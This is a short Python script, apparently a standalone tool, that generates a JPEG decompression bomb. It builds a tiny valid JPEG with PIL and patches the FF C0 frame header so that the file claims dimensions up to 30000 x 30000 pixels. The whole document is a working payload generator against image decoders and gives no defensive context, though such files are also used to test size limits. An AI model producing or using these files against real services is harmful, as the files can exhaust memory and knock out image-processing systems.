"""Writes a small valid JPEG whose header claims WIDTH x HEIGHT pixels (a decompression bomb).

  python3 jpeg_bomb.py OUT [WIDTH] [HEIGHT]      (defaults: 30000 x 30000)
"""
import io
import sys

from PIL import Image

out = sys.argv[1]
width = int(sys.argv[2]) if len(sys.argv) > 2 else 30000
height = int(sys.argv[3]) if len(sys.argv) > 3 else 30000
buf = io.BytesIO()
Image.new("RGB", (16, 16), (200, 30, 30)).save(buf, "JPEG", quality=90)
data = bytearray(buf.getvalue())
# The baseline frame header: FF C0, length, precision, then height and width, big-endian.
at = data.index(b"\xff\xc0")
data[at + 5:at + 7] = height.to_bytes(2, "big")
data[at + 7:at + 9] = width.to_bytes(2, "big")
open(out, "wb").write(bytes(data))
